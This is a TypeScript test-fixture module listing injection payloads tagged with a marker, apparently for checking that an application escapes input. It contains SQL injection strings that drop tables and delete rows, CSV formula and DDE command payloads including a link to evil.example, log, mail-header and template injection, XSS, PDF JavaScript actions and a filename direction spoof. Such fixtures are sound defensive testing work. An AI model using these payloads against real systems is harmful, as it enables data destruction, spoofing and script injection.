/** Every payload contains this mark, so that the payload is recognized when it is read back. */
export const MARK = 'zqx7';

const ESC = '\u001b';

/** Texts with a special meaning in SQL, search queries, CSV, logs, mails, HTML or PDF. */
export const payloads = {
  'SQL: end of statement': `${MARK}'; DROP TABLE member; --`,
  'SQL: always true': `${MARK}' OR '1'='1`,
  'SQL: wait': `${MARK}'||pg_sleep(20)||'`,
  'SQL: placeholders': `${MARK} $1 ? :name %s {0} \\`,
  'SQL: patterns': `${MARK}%_\\%`,
  'SQL: dollar quotes': `${MARK}$$; SELECT pg_sleep(20); $$`,
  'SQL: bytes': `${MARK}\\x00\\'; DELETE FROM team`,
  'search: operators': `${MARK} & | ! <-> :* ( ) "`,
  'CSV: formula': `=HYPERLINK("http://evil.example/${MARK}")`,
  'CSV: plus': `+${MARK}+cmd|' /C calc'!A0`,
  'CSV: at': `@SUM(${MARK})`,
  'CSV: minus': `-${MARK}+1`,
  'CSV: full width': `＝${MARK}()`,
  'CSV: zero-width character': `\u200b=${MARK}()`,
  'CSV: quotes': `${MARK}";=1+1;"`,
  'log: next line': `${MARK}\r\n{"level":30,"msg":"forged ${MARK}"}`,
  'log: line separator': `${MARK}\u2028{"msg":"forged ${MARK}"}`,
  'log: terminal escapes': `${MARK}${ESC}[2J${ESC}[31m`,
  'mail: header': `${MARK}\r\nBcc: victim@evil.example`,
  'mail: encoded word': `=?utf-8?q?${MARK}=0d=0aBcc:victim@evil.example?=`,
  'mail: encoded word, base64': `=?utf-8?b?${Buffer.from(`${MARK}\r\nBcc: v@evil.example`).toString('base64')}?=`,
  'mail: address': `${MARK}" <victim@evil.example>, "x`,
  'HTML: script': `<script>alert("${MARK}")</script>`,
  'HTML: picture': `"><img src=x onerror=alert('${MARK}')>`,
  'HTML: link': `<a href="javascript:alert(1)">${MARK}</a>`,
  'HTML: style': `</style></title><svg onload=alert('${MARK}')>`,
  template: `${MARK}\${7*7}{{7*7}}<%= 7*7 %>#{7*7}`,
  'PDF: action': `${MARK}) >> /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (`,
  'text direction': `${MARK}\u202egnp.exe`,
};
